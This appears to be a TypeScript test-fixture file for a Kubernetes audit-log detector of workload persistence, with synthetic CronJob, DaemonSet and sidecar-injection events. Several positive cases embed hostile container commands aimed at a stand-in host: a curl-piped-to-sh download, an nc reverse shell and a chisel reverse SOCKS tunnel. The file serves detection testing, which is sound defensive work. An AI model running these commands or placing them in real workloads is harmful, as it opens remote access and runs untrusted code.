import type { EventSpec } from "../../scripts/synthetic/auditRecords.js";
import { type DetectionFixture, ev, user } from "./fixture.js";
import { created } from "./privileged-workload.fixtures.js";

const alice = user("alice@contoso.com");
const web = { containers: [{ name: "web", image: "contosoacr.azurecr.io/web:3.2", command: ["/app/web"] }] };

/** A patch of a Deployment as kubectl sends it; the response (the whole object after it) when given. */
const patched = (name: string, requestObject: unknown, responseObject?: unknown): Omit<EventSpec, "auditID" | "time"> => ({
  ...alice,
  verb: "patch",
  resource: "deployments",
  apiGroup: "apps",
  namespace: "web",
  name,
  level: "RequestResponse",
  requestObject,
  ...(responseObject ? { responseObject } : {}),
});
const containers = (...list: object[]) => ({ spec: { template: { spec: { containers: list } } } });
const DAY = 24 * 3600;

export const positive: DetectionFixture[] = [
  {
    name: "a DaemonSet created (Panther's AKS case) is Low",
    events: [
      ev(0, {
        ...created("daemonsets", "default", "log-collector", { containers: [{ name: "fluentd", image: "fluent/fluentd:v1.17" }] }),
        ...user("admin@example.com"),
      }),
    ],
    incidents: [
      {
        severity: "Low",
        actor: "admin@example.com",
        titleIncludes: ["admin@example.com created DaemonSet default/log-collector: a pod on every node"],
        evidence: { variants: ["daemonSet"] },
        techniques: ["T1610", "T1543"],
      },
    ],
  },
  {
    name: "a CronJob created, with its schedule",
    events: [
      ev(
        0,
        created("cronjobs", "ops", "backup", {
          restartPolicy: "OnFailure",
          containers: [{ name: "backup", image: "alpine:3.20", command: ["sh", "-c", "curl -s http://203.0.113.9/x | sh"] }],
        }),
      ),
    ],
    incidents: [
      {
        severity: "Low",
        titleIncludes: ["created CronJob ops/backup: schedule */5 * * * *"],
        techniques: ["T1053.007"],
        evidence: { images: ["alpine:3.20"] },
      },
    ],
  },
  {
    name: "a CronJob updated (Panther's AKS case)",
    events: [
      ev(0, {
        ...user("admin@example.com"),
        verb: "update",
        resource: "cronjobs",
        apiGroup: "batch",
        namespace: "production",
        name: "nightly-job",
        level: "RequestResponse",
        requestObject: {
          kind: "CronJob",
          apiVersion: "batch/v1",
          metadata: { name: "nightly-job", namespace: "production" },
          spec: { schedule: "0 2 * * *", jobTemplate: { spec: { template: { spec: { containers: [{ name: "job", image: "busybox" }] } } } } },
        },
      }),
    ],
    incidents: [{ severity: "Low", titleIncludes: ["updated CronJob production/nightly-job: schedule 0 2 * * *"] }],
  },
  {
    name: "a Job created by a person",
    events: [ev(0, created("jobs", "default", "one-off", { restartPolicy: "Never", containers: [{ name: "run", image: "alpine:3.20" }] }))],
    incidents: [{ severity: "Low", titleIncludes: ["created Job default/one-off"] }],
  },
  {
    name: "a Deployment seen at creation, then patched with a new container (name and image only): sidecar injection, Medium",
    events: [ev(0, created("deployments", "web", "frontend", web)), ev(300, patched("frontend", containers({ name: "sidecar", image: "alpine:3.20" })))],
    incidents: [
      {
        severity: "Medium",
        eventCount: 1,
        titleIncludes: ["alice@contoso.com patched Deployment web/frontend: adds container sidecar (alpine:3.20)"],
        evidence: { variants: ["sidecar"] },
        techniques: ["T1610"],
      },
    ],
  },
  {
    name: "container names are remembered across windows: an injection ten days after creation",
    events: [
      ev(0, created("deployments", "web", "frontend", web)),
      ev(10 * DAY, patched("frontend", containers({ name: "metrics", image: "ghcr.io/x/agent:1" }))),
    ],
    incidents: [{ severity: "Medium", titleIncludes: ["adds container metrics (ghcr.io/x/agent:1)"] }],
  },
  {
    name: "a JSON patch adding a container to a workload never seen before",
    events: [
      ev(
        0,
        patched("api", [
          {
            op: "add",
            path: "/spec/template/spec/containers/-",
            value: { name: "shell", image: "busybox:1.36", command: ["nc", "203.0.113.9", "4444", "-e", "sh"] },
          },
        ]),
      ),
    ],
    incidents: [{ severity: "Medium", titleIncludes: ["adds container shell (busybox:1.36)"] }],
  },
  {
    name: "an unseen workload patched with a whole container definition (image and command)",
    events: [ev(0, patched("api", containers({ name: "tunnel", image: "jpillora/chisel:1.10", args: ["client", "203.0.113.9:8080", "R:socks"] })))],
    incidents: [{ severity: "Medium", titleIncludes: ["adds container tunnel (jpillora/chisel:1.10)"] }],
  },
  {
    name: "an update (PUT) of a StatefulSet seen before, whose body has one container more",
    events: [
      ev(0, created("statefulsets", "data", "redis", { containers: [{ name: "redis", image: "redis:7.4" }] })),
      ev(60, {
        ...created("statefulsets", "data", "redis", {
          containers: [
            { name: "redis", image: "redis:7.4" },
            { name: "exporter", image: "oliver006/redis_exporter:v1.62" },
          ],
        }),
        verb: "update",
        requestURI: "/apis/apps/v1/namespaces/data/statefulsets/redis",
      }),
    ],
    incidents: [{ severity: "Medium", titleIncludes: ["updated StatefulSet data/redis: adds container exporter"] }],
  },
  {
    name: "the same patch delivered twice is one event and still an injection (what came before it is remembered with it)",
    events: [
      ev(0, created("deployments", "web", "frontend", web)),
      ev(300, { ...patched("frontend", containers({ name: "sidecar", image: "alpine:3.20" })), auditID: "00000000-0000-4000-b000-00000000c0de" }),
      ev(300, { ...patched("frontend", containers({ name: "sidecar", image: "alpine:3.20" })), auditID: "00000000-0000-4000-b000-00000000c0de" }),
    ],
    incidents: [{ severity: "Medium", eventCount: 1 }],
  },
];

export const negative: DetectionFixture[] = [
  {
    name: "kubectl set image on a Deployment seen before: the container is known",
    events: [
      ev(0, created("deployments", "web", "frontend", web)),
      ev(300, patched("frontend", containers({ name: "web", image: "contosoacr.azurecr.io/web:3.3" }))),
    ],
    incidents: [],
  },
  {
    name: "kubectl set image on a Deployment never seen: name and image alone cannot tell a new container from an edit, so not reported",
    events: [ev(0, patched("frontend", containers({ name: "web", image: "contosoacr.azurecr.io/web:3.3" })))],
    incidents: [],
  },
  {
    name: "kubectl apply sending the full container list of a Deployment seen before",
    events: [
      ev(0, created("deployments", "web", "frontend", web)),
      ev(
        300,
        patched("frontend", {
          spec: {
            template: {
              spec: {
                "$setElementOrder/containers": [{ name: "web" }],
                containers: [{ name: "web", image: "contosoacr.azurecr.io/web:3.3", command: ["/app/web", "--v=2"] }],
              },
            },
          },
        }),
      ),
    ],
    incidents: [],
  },
  {
    name: "a DaemonSet updated, nothing added (Panther's update case)",
    events: [
      ev(0, {
        ...created("daemonsets", "kube-system", "existing-ds", { containers: [{ name: "agent", image: "contosoacr.azurecr.io/agent:2" }] }),
        verb: "update",
        requestURI: "/apis/apps/v1/namespaces/kube-system/daemonsets/existing-ds",
      }),
    ],
    incidents: [],
  },
  {
    name: "a scale patch adds no container",
    events: [ev(0, created("deployments", "web", "frontend", web)), ev(60, patched("frontend", { spec: { replicas: 5 } }))],
    incidents: [],
  },
  {
    name: "the cronjob controller creating a CronJob's Job (Panther's excluded system controller)",
    events: [
      ev(0, {
        ...created("jobs", "ops", "backup-29012345", { restartPolicy: "OnFailure", containers: [{ name: "backup", image: "alpine:3.20" }] }),
        username: "system:serviceaccount:kube-system:cronjob-controller",
        groups: ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
      }),
    ],
    incidents: [],
  },
  {
    name: "a CronJob's status write is not selected",
    events: [
      ev(0, {
        username: "system:serviceaccount:kube-system:cronjob-controller",
        verb: "update",
        resource: "cronjobs",
        subresource: "status",
        apiGroup: "batch",
        namespace: "ops",
        name: "backup",
        level: "RequestResponse",
        requestObject: { spec: { schedule: "*/5 * * * *" } },
      }),
    ],
    incidents: [],
  },
  {
    name: "a refused CronJob creation (Panther)",
    events: [ev(0, { ...created("cronjobs", "default", "test-job", { containers: [{ name: "x", image: "busybox" }] }), code: 403, decision: "forbid" })],
    incidents: [],
  },
  {
    name: "AKS creating its own DaemonSet as aksService",
    events: [
      ev(0, {
        ...created("daemonsets", "kube-system", "azure-cns", {
          containers: [{ name: "cns", image: "mcr.microsoft.com/containernetworking/azure-cns:v1.6.13" }],
        }),
        username: "aksService",
        groups: ["system:masters", "system:authenticated"],
      }),
    ],
    incidents: [],
  },
  {
    name: "daemonSets switched off",
    config: { "workload-persistence": { daemonSets: false } },
    events: [ev(0, created("daemonsets", "default", "log-collector", { containers: [{ name: "fluentd", image: "fluent/fluentd:v1.17" }] }))],
    incidents: [],
  },
];
